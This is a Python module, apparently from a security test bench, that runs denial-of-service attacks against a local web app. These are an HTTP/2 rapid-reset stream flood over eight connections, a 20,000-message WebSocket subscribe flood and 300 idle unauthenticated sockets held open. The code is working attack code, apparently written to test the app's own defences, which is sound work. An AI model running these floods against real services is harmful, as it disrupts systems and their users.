"""Attacks by connections: streams of HTTP/2, WebSockets, their events."""

import asyncio
import socket
from contextlib import suppress

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import H2Error
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed, WebSocketException

from bench.abuse.scene import Scene
from harness.live_client import LiveClient

PORTION = 50  # streams that are sent at once
SILENT = 300
PATIENCE = 12.0  # seconds; who does not say who he is is to be cut after ten


async def reset_streams(scene: Scene) -> str:
    """Open and reset streams of HTTP/2 over eight connections."""
    many = 2_000 if scene.quick else 20_000
    tasks = (asyncio.to_thread(_reset_streams, scene.address, many) for _ in range(8))
    opened = await asyncio.gather(*tasks)
    return f"{sum(opened):,} streams opened"


def _reset_streams(address: tuple[str, int], many: int) -> int:
    connection = H2Connection(H2Configuration(client_side=True))
    headers = [(":method", "GET"), (":path", "/api/runs/list"), (":scheme", "http")]
    headers += [(":authority", "127.0.0.1")]
    opened = 0
    with socket.create_connection(address, timeout=30) as line, suppress(OSError, H2Error):
        connection.initiate_connection()
        line.sendall(connection.data_to_send())
        connection.receive_data(line.recv(65_536))  # only a server of HTTP/2 answers so
        for number in range(many):
            stream = connection.get_next_available_stream_id()
            connection.send_headers(stream, headers, end_stream=True)
            connection.reset_stream(stream)
            opened += 1
            if number % PORTION == 0:
                line.sendall(connection.data_to_send())
        line.sendall(connection.data_to_send())
    return opened


async def subscribe_flood(scene: Scene) -> str:
    """Subscribe 20,000 times over one socket."""
    sent = 0
    async with LiveClient(scene.site.url, token=scene.attacker) as client:
        with suppress(ConnectionClosed):
            for number in range(20_000):
                topic = f'{{"topic":"run:{number % 40 + 1}"}}'
                await client.send(f'42{number}["subscribe",{topic}]')
                sent += 1
        with suppress(TimeoutError):
            await asyncio.wait_for(client.closed.wait(), 5)
        return f"{sent:,} sent, {'cut' if client.closed.is_set() else 'open'}"


async def silent_sockets(scene: Scene) -> str:
    """Open WebSockets that never say who they are, and count those that stay."""
    address = scene.site.url.replace("http", "ws", 1) + "/socket.io/?EIO=4&transport=websocket"
    opened = []
    for _ in range(SILENT):
        with suppress(OSError, WebSocketException, TimeoutError):
            opened.append(await connect(address, ping_interval=None, close_timeout=1))
    await asyncio.sleep(PATIENCE)
    left = 0
    for one in opened:
        with suppress(TimeoutError, ConnectionClosed):
            left += await _is_open(one)
        one.transport.abort()
    return f"{len(opened)} of {SILENT} opened, {left} open after {PATIENCE:g} s"


async def _is_open(line) -> bool:  # type: ignore[no-untyped-def]
    """Return whether nothing more comes, not even the end."""
    try:
        while True:
            await asyncio.wait_for(line.recv(), 0.02)
    except TimeoutError:
        return True
